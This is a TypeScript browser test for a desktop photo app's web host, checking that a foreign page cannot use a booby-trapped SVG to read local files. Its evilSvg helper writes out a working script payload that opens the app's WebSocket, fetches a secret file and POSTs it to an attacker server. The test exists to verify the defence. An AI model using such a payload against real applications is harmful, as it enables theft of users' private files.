// The exfiltration chain replayed in Debian's Chromium, the way an attacker would run it: a
// photo folder holds evil.svg; the user opens it in DVAR Studio; later a page of another site
// (served from `localhost`, a different site than the host's 127.0.0.1) sends the browser to the
// SVG's /image URL. Were the SVG served, its script would run as the app: open /ws, queue:add a secret
// file, fetch it through /image and post it to the attacker. The attacker's server must receive nothing.
import assert from 'node:assert/strict';
import { createServer, type Server } from 'node:http';
import { existsSync, mkdirSync, writeFileSync } from 'node:fs';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { after, before, test } from 'node:test';
import { WebSocket } from 'ws';
import type { Browser } from 'playwright-core';
import { startWebHost, type WebHost } from '../../electron/web-host/server.ts';
import { makeTempDir, writePhoto } from '../helpers/images.ts';
import { serverMessage } from '../helpers/ws-message.ts';
import { CHROMIUM, launchChromium } from './browser.ts';

const skip = existsSync(CHROMIUM) ? false : `Chromium is not installed at ${CHROMIUM}; skipping the browser test.`;
if (skip) console.log(`# ${skip}`);

const { dir, cleanup } = makeTempDir('exfil-e2e');
const SECRET_TEXT = 'TOP SECRET: the launch code is 0000';
let browser: Browser | undefined;
let web: WebHost;
let attacker: Server;
/** What the attacker's server was told, in order: steps the script reached and the loot. */
const received: string[] = [];

/** The SVG's script: each step reports to the attacker; `data-done` marks the end for the test. */
function evilSvg(secret: string, attackerOrigin: string): string {
  const script = `
    const report = (step) => fetch('${attackerOrigin}/report?' + encodeURIComponent(step), { mode: 'no-cors' });
    const done = (step) => report(step).finally(() => document.documentElement.setAttribute('data-done', step));
    report('svg-script-ran');
    const ws = new WebSocket('ws://' + location.host + '/ws');
    ws.onerror = () => done('ws-refused');
    ws.onopen = () => ws.send(JSON.stringify({ id: 1, channel: 'queue:add', payload: { paths: [${JSON.stringify(secret)}], recursive: false } }));
    ws.onmessage = async (event) => {
      if (JSON.parse(event.data).id !== 1) return;
      const response = await fetch('/image?path=' + encodeURIComponent(${JSON.stringify(secret)}));
      const text = await response.text();
      await fetch('${attackerOrigin}/loot', { method: 'POST', mode: 'no-cors', body: text });
      done('posted');
    };`;
  return `<svg xmlns="http://www.w3.org/2000/svg" width="8" height="8"><rect width="8" height="8" fill="red"/><script><![CDATA[${script}]]></script></svg>`;
}

before(async () => {
  if (skip) return;
  const rendererDir = join(dir, 'renderer');
  mkdirSync(rendererDir);
  writeFileSync(join(rendererDir, 'index.html'), '<!doctype html><html><head><title>DVAR Studio</title></head><body></body></html>');
  attacker = createServer((req, res) => {
    const chunks: Buffer[] = [];
    req.on('data', (c: Buffer) => chunks.push(c));
    req.on('end', () => {
      if (req.url?.startsWith('/report?')) received.push(decodeURIComponent(req.url.slice('/report?'.length)));
      else if (req.url === '/loot') received.push(`loot: ${Buffer.concat(chunks).toString()}`);
      res.writeHead(200, { 'content-type': 'text/html' });
      res.end('<!doctype html><title>cute cats</title>');
    });
  });
  await new Promise<void>((done) => attacker.listen(0, '127.0.0.1', done));
  web = await startWebHost({ dataDir: join(dir, 'data'), port: 0, rendererDir });
  browser = await launchChromium();
});

after(async () => {
  await browser?.close();
  await web?.close();
  attacker?.close();
  cleanup();
});

test('a foreign page cannot read a local file through an SVG in a photo folder', { skip }, async () => {
  const attackerOrigin = `http://localhost:${(attacker.address() as AddressInfo).port}`;
  const hostOrigin = `http://127.0.0.1:${web.port}`;
  const photos = join(dir, 'photos');
  mkdirSync(photos);
  const secret = join(dir, 'secret.txt');
  writeFileSync(secret, SECRET_TEXT);
  await writePhoto(join(photos, 'beach.jpg'), 16, 12);
  const evil = join(photos, 'evil.svg');
  writeFileSync(evil, evilSvg(secret, attackerOrigin));

  // The user opens the address the host printed, then every file of the folder in the app (through the page's own token).
  const page = await browser!.newPage();
  await page.goto(web.url);
  const token = await page.evaluate(() => document.querySelector<HTMLMetaElement>('meta[name="dvar-session-token"]')?.content);
  const ws = new WebSocket(`ws://127.0.0.1:${web.port}/ws${token ? `?token=${encodeURIComponent(token)}` : ''}`, { origin: hostOrigin });
  await new Promise((resolve, reject) => ws.on('open', resolve).on('error', reject));
  ws.send(JSON.stringify({ id: 1, channel: 'files:add', payload: { paths: [join(photos, 'beach.jpg'), evil], recursive: false } }));
  await new Promise((resolve) =>
    ws.on('message', (data) => {
      const message = serverMessage(data);
      if ('id' in message && message.id === 1) resolve(undefined);
    }),
  );
  ws.close();

  // Later, a page of another site sends the browser to the SVG's image URL.
  await page.goto(`${attackerOrigin}/`);
  const navigation = page.waitForNavigation({ url: (url) => url.origin === hostOrigin });
  await page.evaluate((target) => (location.href = target), `${hostOrigin}/image?path=${encodeURIComponent(evil)}`);
  const response = await navigation;
  // Whatever loaded: either our refusal (plain text) or the SVG, whose script marks its end.
  await page.waitForFunction(() => document.contentType !== 'image/svg+xml' || document.documentElement.hasAttribute('data-done'), null, { timeout: 15_000 });
  const contentType = await page.evaluate(() => document.contentType);
  await page.close();

  assert.deepEqual(
    received.filter((r) => r.startsWith('loot')),
    [],
    'the attacker received no file',
  );
  assert.notEqual(contentType, 'image/svg+xml', 'the SVG is never served as a document');
  assert.notEqual(response?.status(), 200, 'the foreign navigation is refused');
  assert.ok(!received.includes('svg-script-ran'), 'the SVG script never ran');
});
